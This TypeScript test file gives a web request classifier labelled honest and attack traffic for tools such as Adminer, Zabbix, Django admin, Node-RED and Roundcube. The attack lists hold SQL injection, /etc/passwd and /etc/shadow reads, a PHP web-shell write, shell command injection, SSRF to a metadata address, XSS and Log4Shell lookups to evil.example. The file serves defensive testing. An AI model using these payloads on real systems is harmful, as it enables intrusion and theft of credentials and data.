import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const ADMINER = '/?server=127.0.0.1%3A3306&username=ann&db=shop'

/** A page that is asked for with the message that Django keeps for it. */
function told(text: string): ReturnType<typeof asked> {
  const value = encodeURIComponent(JSON.stringify([['__json_message', 1, 25, text]]))
  return { ...asked('/admin/blog/post/', {}), headers: ['cookie', `messages=${value}`] }
}

/** What Django makes of such a message: compressed, in base64, with a time and a signature behind it. */
const SIGNED =
  '.eJwdzUEKwjAQQNGrDLNSKI4puKs9gwt3TQnTZJpY0kRMg3h7rfv_-MOAxiwlJ7NKKewFG9W0lwbvQeCZywa6tmdlO4bwkvmqkditj0RTzJ72gBTZwMkLaexvu8jTInaDgzp2xP3fO3hzAXZOHJRq7e811xg_JxzHLxTrK10:1xY1uL:X1W0QBp1dxWOCAhEwstGw5qZW1jdS119iiah8WQUx-0'

/** What a page with such a query asks for besides, as browsers name the page in it. */
function behind(path: string, query: Readonly<Record<string, string>>): ReturnType<typeof asked> {
  const page = `https://x.example${path}?${new URLSearchParams(query)}`
  return { ...asked('/static/site.css', {}), headers: ['host', 'x.example', 'referer', page] }
}

/** A flow as the editor of Node-RED sends it. */
function flow(node: Readonly<Record<string, string>>): ReturnType<typeof sent> {
  return sent({ flows: [{ id: 'a', type: 'function', z: 't', ...node }] }, '/flows')
}

/** What tools that a small team runs send: pages about databases, flows, dashboards, the admin of Django. */
const KINDS: HonestKinds = {
  'a search for tickets in Request Tracker': {
    honest: [
      asked('/Search/Results.html', {
        Query:
          "( Queue = 'General' OR Queue = 'x' ) AND ( Status = 'new' OR Status = 'open' ) AND Created > '2 days ago'",
      }),
      behind('/Search/Results.html', {
        Query: "( Queue = 'General' OR Queue = 'x' ) AND ( Status = 'new' OR Status = 'open' )",
      }),
      asked('/rt/Search/Chart.html', { Query: "Subject LIKE 'O\\'Brien' OR Owner = 'root'" }),
      asked('/REST/2.0/tickets', { query: "'CF.{Severity}' = 'high' OR 'CF.{Severity}' = 'low'" }),
      {
        ...filled({ Query: "Owner = 'Nobody' OR Status = 'new' OR Priority > 5" }),
        target: '/Search/Build.html',
      },
    ],
    attacks: [
      asked('/Search/Results.html', { Query: "x' or name = 'y" }),
      behind('/Search/Results.html', { Query: "x' or 'ab'='ab" }),
      behind('/search', { Query: "( Queue = 'a' OR Queue = 'x' ) AND ( Status = 'b' OR Status = 'y' )" }),
      asked('/Search/Results.html', { Query: "Queue = 'x' or 'ab'='ab'" }),
      asked('/Search/Results.html', { Query: "Queue = 'or ab like ' and Status = '' or ab = 'x'" }),
      asked('/Search/Results.html', { Query: "Queue = 'x' or Status = 'y' union select 1 from users" }),
      asked('/Search/Results.html', { Query: "Queue = 'x' or Status = 'y'; drop table x" }),
      asked('/search', { query: "( Queue = 'a' OR Queue = 'x' ) AND ( Status = 'b' OR Status = 'y' )" }),
      asked('/Search/Results.html', {
        q: "( Queue = 'a' OR Queue = 'x' ) AND ( Status = 'b' OR Status = 'y' )",
      }),
    ],
  },
  'the place of a program and of a log, as a page of settings says it': {
    honest: [
      filled({ path_rrdtool: '/usr/bin/rrdtool', path_php_binary: '/usr/bin/php' }),
      filled({ sendmail_path: '/usr/sbin/sendmail', path_cactilog: '/var/log/cacti/cacti.log' }),
    ],
    attacks: [
      filled({ path_php: '/usr/bin/id' }),
      filled({ path_id: '/usr/bin/id' }),
      filled({ php: '/usr/bin/php' }),
      filled({ path_php: '/usr/bin/php -r phpinfo' }),
      filled({ path_cactilog: '/var/log/../../etc/passwd' }),
      filled({ path: '/var/log/apache2/access.log' }),
      asked('/x', { path_php: '/usr/bin/php' }),
    ],
  },
  'what a store of objects is given to keep, and removes': {
    honest: [
      { ...asked('/docs/backup/db.sql.gz', {}), method: 'PUT' },
      { ...asked('/docs/copy.sql', {}), method: 'DELETE' },
      { ...asked('/docs/app.log', {}), method: 'PUT' },
      { ...asked('/docs/conf/nginx.conf', {}), method: 'DELETE' },
    ],
    attacks: [
      asked('/docs/backup/db.sql.gz', {}),
      { ...asked('/docs/copy.sql', {}), method: 'POST' },
      asked('/docs/app.log', {}),
      { ...asked('/docs/.htaccess', {}), method: 'PUT' },
      { ...asked('/docs/.env', {}), method: 'DELETE' },
      { ...asked('/docs/php.ini', {}), method: 'PUT' },
    ],
  },
  'a file that an agent watches': {
    honest: [
      filled({ key: 'vfs.file.cksum[/etc/passwd,sha256]', name: 'Checksum of /etc/passwd' }),
      filled({ key: 'vfs.file.contents["/etc/hosts"]', event_name: 'Linux: Checksum of /etc/passwd' }),
      filled({
        expression:
          'last(/Linux by Zabbix agent/vfs.file.cksum[/etc/passwd,sha256],#1)<>last(/Linux by Zabbix agent/vfs.file.cksum[/etc/passwd,sha256],#2)',
      }),
      sent({ method: 'item.create', params: { key_: 'vfs.file.cksum[/etc/passwd]' } }),
      sent({ params: { name: '/etc/passwd has been changed since the last check' } }),
      asked('/zabbix.php', { filter_select: 'vfs.file.contents["/etc/passwd"]' }),
      behind('/zabbix.php', { filter_select: 'vfs.file.contents["/etc/passwd"]' }),
    ],
    attacks: [
      filled({ key: '/etc/passwd' }),
      behind('/zabbix.php', { filter_select: '/etc/passwd' }),
      filled({ key: 'x[/etc/passwd]' }),
      filled({ key: 'vfs.file.cksum[/etc/passwd] /etc/shadow' }),
      filled({ key: 'vfs.file.cksum[../../etc/passwd]' }),
      filled({ key: 'vfs.file.contents[/etc/passwd]/../../etc/shadow' }),
      filled({ key: 'vfs.file.cksum[/etc/passwd];cat /etc/shadow' }),
      filled({ key: '$(cat vfs.file.contents[/etc/passwd])' }),
      filled({ key: 'log[/a, /etc/passwd ]' }),
      filled({ key: '1`rev log[/a,b /etc/shadow ]`' }),
      filled({ name: '/etc/passwd' }),
      filled({ name: 'Checksum of /etc/passwd;id' }),
      filled({ name: 'cat of /etc/passwd' }),
      filled({ file: 'Checksum of /etc/passwd' }),
      asked('/view', { file: 'file:///etc/passwd#vfs.file.contents[/etc/passwd]' }),
    ],
  },
  'a page about the database on this machine': {
    honest: [
      asked('/', { server: '127.0.0.1:3306', username: 'ann', db: 'shop' }),
      asked('/adminer.php', { server: 'localhost:3306', username: 'ann' }),
      asked('/db/', { server: '127.0.0.1', username: 'ann', db: 'shop', select: 'orders' }),
      asked('/', { server: 'db', username: 'ann', db: 'x', sql: 'SELECT * FROM `a` WHERE `b` = 5 LIMIT 50' }),
      filled({ query: "SELECT id FROM a WHERE b = 'O''Brien' OR c = 'x' LIMIT 5" }, `${ADMINER}&sql=`),
      filled({ query: "UPDATE users SET name = 'x' WHERE id = 1; -- fix", limit: '' }, `${ADMINER}&sql=`),
      filled({ select: 'SELECT id, name FROM users UNION SELECT 1, 2' }, `${ADMINER}&view=`),
      filled({ definition: 'BEGIN SELECT 1 UNION SELECT 2; END' }, `${ADMINER}&procedure=`),
    ],
    attacks: [
      asked('/', { server: '127.0.0.1:3306' }),
      asked('/', { server: '127.0.0.1:6379', username: 'ann', db: 'shop' }),
      asked('/', { server: '127.0.0.1:80', username: 'ann' }),
      asked('/', { server: '169.254.169.254', username: 'ann' }),
      asked('/', { host: '127.0.0.1:3306', username: 'ann' }),
      asked('/x', { server: '127.0.0.1:3306', username: 'ann' }),
      asked('/', { q: '1', server: '127.0.0.1:3306', username: 'ann' }),
      filled({ query: 'SELECT 1 UNION SELECT password FROM users' }, '/s?sql='),
      filled({ query: "x' UNION SELECT password FROM users-- " }, `${ADMINER}&sql=`),
      ...[
        "select ' union select password from users -- ",
        "select ' or '1'='1",
        "use ' or 1=1 -- ",
        "check '; delete from users; -- ",
        "show ' and (select count(*) from users)>0 -- ",
        "select -- ' union select password from users -- '",
        `select "' union select password from users -- "`,
        "select 1\n' union select password from users -- ",
        `select 1 ${' '.repeat(100_000)}' union select password from users -- `,
        "select \\' or 1=1 or \\'",
      ].map(query => filled({ query }, '/search/?server=&username=x')),
      asked('/', { server: '', username: 'x', sql: "select ' or 1=1 or 'a'='a" }),
      filled({ query: "SELECT LOAD_FILE('/etc/passwd')" }, `${ADMINER}&sql=`),
      filled({ query: "SELECT '<?php x() ?>' INTO OUTFILE '/var/www/x.php'" }, `${ADMINER}&sql=`),
      filled({ name: 'SELECT id, name FROM users UNION SELECT 1, 2' }, `${ADMINER}&view=`),
      asked('/', { server: 'db', username: 'ann', db: 'x', sql: 'SELECT 1 UNION SELECT b FROM c' }),
      asked('/', { server: 'db', username: 'ann', db: 'x', sql: "SELECT LOAD_FILE('/etc/passwd')" }),
      asked('/s', { sql: 'SELECT * FROM `a` WHERE `b` = 5 LIMIT 50' }),
      asked('/', { server: 'db', username: 'ann', db: 'x', query: "x' UNION SELECT password FROM users-- " }),
    ],
  },
  'a view or a routine in phpMyAdmin': {
    honest: [
      filled(
        { 'view[as]': "SELECT a FROM b WHERE c = 'x' UNION SELECT 'y'" },
        '/index.php?route=/view/create',
      ),
      filled({ item_definition: "BEGIN SELECT * FROM a WHERE b = 'x' OR 1=1; DROP TABLE IF EXISTS q; END" }),
    ],
    attacks: [
      filled({ 'view[as]': "x' UNION SELECT password FROM users-- " }),
      filled({ item_definition: "BEGIN SELECT SLEEP(5); SELECT LOAD_FILE('/etc/passwd'); END" }),
      filled({ 'view[of]': "SELECT a FROM b WHERE c = 'x' UNION SELECT 'y'" }),
    ],
  },
  'a message for the next page, which Django keeps in a cookie': {
    honest: [
      { ...asked('/admin/', {}), headers: ['cookie', `messages=${SIGNED}`] },
      told('The post “<a href="/admin/blog/post/1/change/">O\'Brien & sons</a>” was added successfully.'),
      told("Please correct the error below: it's -- 'x' or 'y'"),
    ],
    attacks: [
      told('<img src=x onerror=alert(1)>'),
      told('<svg/onload=alert(1)>'),
      told('$' + '{jndi:ldap://evil.example/a}'),
      { ...asked('/', {}), headers: ['cookie', 'messages=<script>alert(1)</script>'] },
      { ...asked('/', {}), headers: ['cookie', `messages=${encodeURIComponent("x' or 1=1-- ")}`] },
      { ...asked('/', {}), headers: ['cookie', `note=${SIGNED}`] },
    ],
  },
  'functions and pages of a flow': {
    honest: [
      flow({ func: 'msg.topic = "SELECT * FROM a WHERE b = \'" + msg.payload + "\' OR 1=1";\nreturn msg;' }),
      flow({
        func: "const os = require('os');\nmsg.payload = os.hostname() + process.env.HOME;\nreturn msg;",
      }),
      flow({ template: '<script>(function(scope){ scope.$watch("msg", show) })(scope)</script>{{payload}}' }),
      flow({ format: '<div ng-click="send(msg)" onclick="x()">a</div><script>x()</script>' }),
      sent({ label: 'x', nodes: [{ id: 'a', func: "eval('1'); return require('fs');" }] }, '/flow/a'),
    ],
    attacks: [
      flow({ command: 'cat /etc/passwd | sh' }),
      flow({ name: "x' UNION SELECT password FROM users-- " }),
      sent({ func: "x' UNION SELECT password FROM users-- " }),
      sent({ template: '<script>x()</script>' }),
      flow({ info: '$' + '{jndi:ldap://evil.example/a}' }),
    ],
  },
  'a statement that is looked for in a log': {
    honest: [
      asked('/loki/api/v1/query_range', { query: '{job="mysql"} |= "SELECT * FROM users WHERE a = 1"' }),
      asked('/loki/api/v1/query', { query: 'rate({job="db"} |= "SELECT * FROM users" [5m])' }),
    ],
    attacks: [
      asked('/loki/api/v1/query', { query: '{a="b"} UNION SELECT * FROM users' }),
      asked('/loki/api/v1/query', { query: '{a="b"} or "x" = (SELECT password FROM users)' }),
      asked('/s', { query: '{job="mysql"} |= "SELECT * FROM users WHERE a = 1"' }),
    ],
  },
  'revisions of Mercurial': {
    honest: [
      asked('/log', { rev: "user('ann')" }),
      asked('/rev', { rev: "date('>2026-01-01') and not merge()" }),
      asked('/', { cmd: 'lookup', revs: "date('>2026-01-01')" }),
      asked('/log', { rev: "branch( 'stable', 'x' ) and user('ann') or not file(a.b)" }),
    ],
    attacks: [
      asked('/log', { rev: 'user(database())' }),
      asked('/log', { rev: "1' and user()='root" }),
      asked('/log', { rev: '1 and user()=reverse(1)' }),
      asked('/log', { rev: "x' or user() or 'a'='a" }),
      asked('/log', { revset: "x'-user()-'" }),
      asked('/log', { rev: "f(' or user() or date(')')" }),
      asked('/log', { rev: "user('a') or 1=1-- " }),
      asked('/log', { name: "user('ann')" }),
      asked('/log', { rev: "system('id')" }),
      asked('/log', { rev: "user('ann'); system('id')" }),
    ],
  },
  'what is left out, by its name': {
    honest: [sent({ ignore: ['.git', '/etc/**', '/var/lib/mysql'] }, '/rest/db/ignores?folder=q')],
    attacks: [
      sent({ ignore: ['../../etc/passwd\u0000.png'] }),
      sent({ file: '/etc/passwd' }),
      sent({ ignore: ['; cat /etc/passwd'] }),
    ],
  },
  'a mail that is written in Roundcube': {
    honest: [
      filled({
        _message: 'Hello Bob,\n\nsee http://localhost:3000/a?b=1 and /etc/hosts.\n\n-- \nAnn',
        _subject: 'x',
      }),
      filled({ _message: "Hi,\nthe slow query is\nSELECT a FROM b WHERE c = 'x' AND d != 'y';\nAnn" }),
      filled({ _message: 'Please look at /etc/hosts, it is short' }),
      filled({ _text: "SELECT * FROM t WHERE a = 'x'; -- ok", _name: 'query' }),
      filled({ _notes: 'the file is /etc/hosts' }),
    ],
    attacks: [
      filled({ _message: "' or 1=1-- " }),
      filled({ _message: '; cat /etc/passwd' }),
      filled({ _message: '<script>alert(1)</script>' }),
      filled({ _message: 'Hi\n$' + '{jndi:ldap://evil.example/a}' }),
      filled({ _subject: 'Hi\nBcc: all@example.com\n\n/etc/passwd; cat /etc/passwd' }),
      filled({ _from: 'see /etc/hosts' }),
      filled({ _uid: "' or 1=1-- " }),
    ],
  },
  'files that an editor of Jupyter opens': {
    honest: [
      asked('/edit/.env', {}),
      asked('/user/ann/edit/nginx.conf', {}),
      asked('/edit/config/q.sql', {}),
      asked('/api/contents/.env/checkpoints', {}),
      asked('/user/ann/api/contents/work/q.sql/checkpoints', {}),
    ],
    attacks: [
      asked('/edit/.git/config', {}),
      asked('/.env/checkpoints', {}),
      asked('/app/edit/.env', {}),
      asked('/edit/../.env', {}),
      asked('/files/q.sql', {}),
      asked('/api/contents/.git/config/checkpoints', {}),
      posted('text/plain', 'x', '/edit/.htaccess'),
    ],
  },
}

testKinds(KINDS)
